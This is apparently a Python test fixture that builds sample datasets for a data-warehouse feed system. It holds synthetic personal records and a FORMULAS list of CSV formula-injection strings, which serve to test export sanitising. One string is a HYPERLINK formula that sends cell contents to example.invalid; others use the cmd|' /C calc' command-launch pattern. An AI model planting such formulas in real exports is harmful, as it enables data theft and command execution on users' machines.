"""A real hub home for feed tests: std batches of real entities in several districts, built and published.

Rows go through the same path a sync takes (``add_lineage`` → ``ParquetSink`` → the ledger)
and the real warehouse build, so the feeds read exactly what production snapshots hold.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa

from schemas import get_entity
from schemas.lineage import add_lineage
from warehouse.build import build
from warehouse.catalog import BatchRecord, Catalog
from warehouse.landing import ParquetSink
from warehouse.layout import Lake, batch_id

UTC = timezone.utc
#: 浦东 (incl. 临港), 杨浦, 闵行: the districts every feed test spreads its rows over.
DISTRICTS = ("310115", "310110", "310112")
MUNICIPAL = "municipal_db"
LINGANG = "lingang_platform"


def land_rows(home: Path, catalog: Catalog, source: str, entity_name: str, window: str,
              rows: list[dict[str, Any]], source_key: str | None = None) -> str:
    """Land ``rows`` (business fields; missing ones NULL; ``_is_deleted`` optional) as one ledgered batch.

    ``source_key``: the field whose value is each record's key in its source (the spec's
    ``primary_key``); by default the business key, as ``add_lineage`` takes it.
    """
    entity = get_entity(entity_name)
    schema = entity.arrow_schema(lineage=False).append(pa.field("_is_deleted", pa.bool_()))
    table = pa.Table.from_pylist([{f.name: r.get(f.name) for f in schema} for r in rows], schema=schema)
    bid = batch_id(source, entity_name, window)
    keys = pa.array([r[source_key] for r in rows], pa.string()) if source_key else None
    landed = add_lineage(table, entity, source=source, batch_id=bid, extracted_at=datetime.now(UTC), source_key=keys)
    lake = Lake(home)
    path = lake.std_path(entity_name, source, date(2025, 6, 1), bid)
    with ParquetSink(path, entity.arrow_schema()) as sink:
        sink.write(landed)
    now = datetime.now(UTC)
    catalog.commit_batch(BatchRecord(bid, source, entity_name, window, window, landed.num_rows, landed.num_rows, 0,
                                     now, now, std_path=lake.relative(path)))
    return bid


def project(i: int, district: str, **extra: Any) -> dict[str, Any]:
    return {"project_id": f"P{i:05d}", "title": f"产教融合协同育人项目{i}", "district_code": district,
            "lead_org_name": "上海电机学院", "budget_amount": Decimal("125000.50") + i, "approved_on": date(2025, 1, 2),
            "status": "ongoing" if i % 2 else None,
            "updated_at": datetime(2025, 3, 1, 8, 0, tzinfo=UTC) + timedelta(hours=i), **extra}


def participant(i: int, project_no: int, **extra: Any) -> dict[str, Any]:
    return {"participant_id": f"PP{i:05d}", "project_id": f"P{project_no:05d}", "org_name": "上海积塔半导体有限公司",
            "updated_at": datetime(2025, 3, 2, tzinfo=UTC), **extra}


def trainee(i: int, district: str, **extra: Any) -> dict[str, Any]:
    return {"trainee_id": f"T{i:05d}", "name": "张三丰", "id_number": "31011519900101002X", "phone": "13812345678",
            "school_name": "上海电子信息职院", "district_code": district, "start_date": date(2025, 2, 1),
            "updated_at": datetime(2025, 3, 3, tzinfo=UTC), **extra}


def teacher(i: int, **extra: Any) -> dict[str, Any]:
    return {"teacher_id": f"TE{i:04d}", "name": "欧阳明", "id_number": "310110198501011234", "phone": "13900001111",
            "org_name": "上海商汤科技开发有限公司", "updated_at": datetime(2025, 3, 4, tzinfo=UTC), **extra}


@dataclass
class FeedHome:
    """A home and its catalog, with helpers to land more and rebuild."""

    home: Path
    catalog: Catalog
    windows: int = 0
    expected: dict[str, Any] = field(default_factory=dict)

    def land(self, source: str, entity: str, rows: list[dict[str, Any]], source_key: str | None = None) -> None:
        self.windows += 1
        land_rows(self.home, self.catalog, source, entity, f"w{self.windows:04d}", rows, source_key)

    def build(self) -> str:
        result = build(self.home, self.catalog)
        assert result.snapshot is not None
        return result.snapshot.version


def make_feed_home(home: Path, catalog: Catalog, projects: int = 30) -> FeedHome:
    """Projects, participants, trainees and teachers across DISTRICTS, with some deletes; built twice."""
    fh = FeedHome(home, catalog)
    fh.land(MUNICIPAL, "project", [project(i, DISTRICTS[i % 3]) for i in range(projects)])
    fh.land(MUNICIPAL, "project_participant", [participant(i, i % projects) for i in range(projects * 2)])
    fh.land(MUNICIPAL, "trainee", [trainee(i, DISTRICTS[i % 3]) for i in range(12)])
    fh.land(MUNICIPAL, "teacher", [teacher(i) for i in range(4)])
    fh.build()
    # Second build: a few updates and deletes, so every feed has changes and tombstones.
    fh.land(MUNICIPAL, "project", [project(0, DISTRICTS[0], title="更新后的项目0"),
                                    {**project(1, DISTRICTS[1]), "_is_deleted": True},
                                    {**project(2, DISTRICTS[2]), "_is_deleted": True}])
    fh.land(MUNICIPAL, "trainee", [{**trainee(3, DISTRICTS[0]), "_is_deleted": True}])
    fh.build()
    return fh


# -- every dataset, with personal data, lists and spreadsheet formulas -------------------------------

#: Personal data of the home below (trainees, teachers, talent-demand contacts): none of it may reach
#: a key without the personal grant, in any form. 王小明's ID is the one issue #15 recovered.
PEOPLE = (("王小明", "310112199910069205", "13912345678"), ("欧阳娜娜", "310110199805210024", "13687654321"),
          ("司马光明", "310115200102030016", "18600001111"), ("李雷", "310110199507070035", "13500002222"),
          ("韩梅梅", "310112199612120041", "13700003333"), ("诸葛青云", "310115199301010055", "15900004444"))
#: Text a spreadsheet would run as a formula if a CSV handed it over as it is (OWASP's six starts).
FORMULAS = ('=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _value(entity: Any, name: str, dtype: pa.DataType, i: int, district: str) -> Any:
    """A plausible value of one field for row ``i``: codes from the field's code list, unique ids."""
    from schemas import CODE_LISTS

    code_list = entity.field(name).code_list
    if name == "district_code":
        return district
    if code_list is not None:
        codes = list(CODE_LISTS[code_list].codes)
        return codes[i % len(codes)]
    if name == "project_id":
        return f"P{i:05d}"
    if pa.types.is_string(dtype):
        return f"{entity.name}-{name}-{i}"
    if pa.types.is_timestamp(dtype):
        return datetime(2025, 3, 1, 8, 0, tzinfo=UTC) + timedelta(hours=i)
    if pa.types.is_date(dtype):
        return date(2025, 1, 1) + timedelta(days=i)
    if pa.types.is_decimal(dtype):
        return Decimal("1000.50") + i
    if pa.types.is_integer(dtype):
        return i
    if pa.types.is_boolean(dtype):
        return i % 2 == 0
    raise AssertionError(f"no sample value for {entity.name}.{name} ({dtype})")


def sample_rows(entity_name: str, count: int, **overrides: Any) -> list[dict[str, Any]]:
    """``count`` rows of any entity, spread over DISTRICTS, every business field filled."""
    entity = get_entity(entity_name)
    rows = []
    for i in range(count):
        row = {f.name: _value(entity, f.name, f.type, i, DISTRICTS[i % len(DISTRICTS)]) for f in entity.business_fields}
        rows.append({**row, **{k: v(i) if callable(v) else v for k, v in overrides.items()}})
    return rows


def make_every_dataset_home(home: Path, catalog: Catalog, rows: int = 6) -> FeedHome:
    """Every dataset with rows in every district, built twice so each has changes and some deletes.

    Trainees are keyed in their source on the ID number and teachers on the phone (the spec
    mistake of issue #15), so ``_source_key`` holds personal data; the organisations that only
    trainees mention inherit it. Text fields carry :data:`FORMULAS`; a budget is negative.
    """
    from schemas import ENTITIES

    fh = FeedHome(home, catalog)
    person = {"name": lambda i: PEOPLE[i % len(PEOPLE)][0], "id_number": lambda i: PEOPLE[i % len(PEOPLE)][1],
              "phone": lambda i: PEOPLE[i % len(PEOPLE)][2]}
    special: dict[str, dict[str, Any]] = {
        "trainee": {**person, "school_name": lambda i: f"上海电子信息职院第{i}分校"},
        "teacher": person,
        "talent_demand": {"contact_name": person["name"], "phone": person["phone"]},
        "project": {"title": lambda i: FORMULAS[i % len(FORMULAS)],
                    "budget_amount": lambda i: Decimal("-3.50") if i == 3 else Decimal("125000.50") + i},
        "notice": {"title": lambda i: FORMULAS[(i + 1) % len(FORMULAS)]},
        "organization": {"address": lambda i: FORMULAS[(i + 2) % len(FORMULAS)]},
    }
    keyed_on = {"trainee": "id_number", "teacher": "phone"}
    landed: dict[str, list[dict[str, Any]]] = {}
    for name in ENTITIES:
        landed[name] = sample_rows(name, rows, **special.get(name, {}))
        fh.land(MUNICIPAL, name, landed[name], keyed_on.get(name))
    fh.build()
    for name in ("project", "trainee", "teacher", "talent_demand", "notice"):  # an update and a delete each
        first, second = landed[name][0], landed[name][1]
        fh.land(MUNICIPAL, name, [{**first, "updated_at": datetime(2025, 6, 1, tzinfo=UTC)},
                                  {**second, "_is_deleted": True}], keyed_on.get(name))
    fh.build()
    return fh
